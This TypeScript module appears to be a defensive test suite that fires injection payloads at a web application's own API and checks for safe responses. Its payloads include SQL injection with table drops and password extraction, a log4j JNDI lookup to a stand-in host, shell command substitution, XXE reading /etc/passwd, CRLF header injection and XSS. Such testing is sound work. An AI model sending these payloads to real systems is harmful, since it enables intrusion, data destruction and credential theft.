import type { Attack } from '../attack.ts';

/** Text that other software has run as something else. */
const texts: [name: string, text: string][] = [
  ['SQL or', "' OR '1'='1"],
  ['SQL comment', "admin'--"],
  ['SQL stacked', "x'; drop table read.orders; --"],
  ['SQL union', "' union select password from auth.account --"],
  ['SQL sleep', "'||(select pg_sleep(9))||'"],
  ['SQL dollar quotes', '$$;select 1;$$'],
  ['LIKE wildcards', '%_%\\'],
  ['NoSQL operator', '{"$gt":""}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is what is sent.
  ['template', '{{7*7}}${7*7}<%= 7*7 %>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is what is sent.
  ['log4j', '${jndi:ldap://evil.test/a}'],
  ['shell', '$(id);`id`|id'],
  ['LDAP', '*)(uid=*))(|(uid=*'],
  ['XML', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
  ['terminal codes', '\u001b[2J\u001b]0;owned\u0007'],
  ['line break', 'x\r\nSet-Cookie: session=evil'],
  ['RTL override', '\u202egnp.exe'],
  ['lone percent', '%'],
];

/** Where such text can be put, by whom. */
const places: [place: string, as: 'support' | 'admin' | 'mallory' | undefined][] = [
  ['/api/products?q=', undefined],
  ['/api/products?cursor=', undefined],
  ['/api/orders?status=', 'mallory'],
  ['/api/orders?cursor=', 'mallory'],
  ['/api/changes?after=', 'mallory'],
  ['/api/admin/orders?q=', 'support'],
  ['/api/admin/orders?sort=', 'support'],
  ['/api/admin/orders?country=', 'support'],
  ['/api/admin/orders?productId=', 'support'],
  ['/api/admin/orders?from=', 'support'],
  ['/api/admin/insights?from=', 'admin'],
  ['/api/admin/users?q=', 'admin'],
  ['/api/admin/customers?q=', 'admin'],
  ['/api/admin/customers?sort=', 'admin'],
  ['/api/admin/customers?cursor=', 'admin'],
];

const inQueries = places.flatMap(([place, as]) =>
  texts.map(
    ([name, text]): Attack => ({
      name: `${name} in ${place}`,
      // A search takes any text, as text; everything else knows its values.
      status: place.endsWith('q=') || place.endsWith('country=') ? [200, 400] : [400],
      run: ({ send }) => send({ as, path: `${place}${encodeURIComponent(text)}` }),
    }),
  ),
);

const inPaths = texts.map(
  ([name, text]): Attack => ({
    name: `${name} as an order’s id`,
    status: [404],
    run: ({ send }) => send({ as: 'mallory', path: `/api/orders/${encodeURIComponent(text)}` }),
  }),
);

const inHeaders = (
  ['idempotency-key', 'if-match', 'min-position', 'prefer', 'evenkeel-viewer'] as const
).map(
  (header): Attack => ({
    name: `SQL in ${header}`,
    status: [202, 400, 401],
    // Nothing can come of it: the body is not good.
    run: ({ send }) =>
      send({
        as: 'mallory',
        path: '/api/orders',
        headers: { [header]: "1'; drop table write.events; --" },
        body: { items: [] },
      }),
  }),
);

const requestIds = ['x\'"><script>', 'a'.repeat(5_000), '../../etc/passwd', '{{7*7}}'].map(
  (id): Attack => ({
    name: `a request id that is none: ${id.slice(0, 12)}`,
    status: [404],
    async run({ send }) {
      const answer = await send({ path: '/api/nowhere', headers: { 'x-request-id': id } });
      if (answer.headers['x-request-id'] === id) throw new Error('It came back as it was sent.');
      return answer;
    },
  }),
);

export const injection: Attack[] = [...inQueries, ...inPaths, ...inHeaders, ...requestIds];
